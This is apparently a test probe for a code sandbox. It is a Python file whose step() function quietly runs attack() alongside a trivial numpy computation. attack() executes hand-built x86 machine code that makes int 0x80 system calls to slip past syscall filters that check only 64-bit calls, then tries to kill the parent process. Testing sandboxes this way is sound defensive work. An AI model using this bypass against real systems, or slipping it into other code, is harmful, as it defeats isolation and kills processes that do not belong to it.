# verdicts: runtime_error accepted
# contained in: landlock namespaces
# looks for: breach bystander
# run: quick
"""Calls the kernel by int 0x80, which a filter that knows 64-bit calls alone would let pass."""

import mmap
import os
import ctypes

import numpy as np


def good(seed, x):
    return np.asarray([2 * np.asarray(x).sum() + seed], np.float32)


def attack():
    def call(nr, b=0, c=0):
        code = (
            b"\x53\xb8"
            + nr.to_bytes(4, "little")
            + b"\xbb"
            + (b & 0xFFFFFFFF).to_bytes(4, "little")
            + b"\xb9"
            + (c & 0xFFFFFFFF).to_bytes(4, "little")
            + b"\xcd\x80\x5b\xc3"
        )
        m = mmap.mmap(-1, 4096, prot=7)
        m.write(code)
        return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()

    pid = call(20)
    print("int80 getpid", pid, os.getpid(), flush=True)
    if pid == os.getpid():
        print("BREACH: 32-bit calls go through")
    print("kill", call(37, os.getppid(), 0), flush=True)


def step(seed, x):
    attack()
    return good(seed, x)
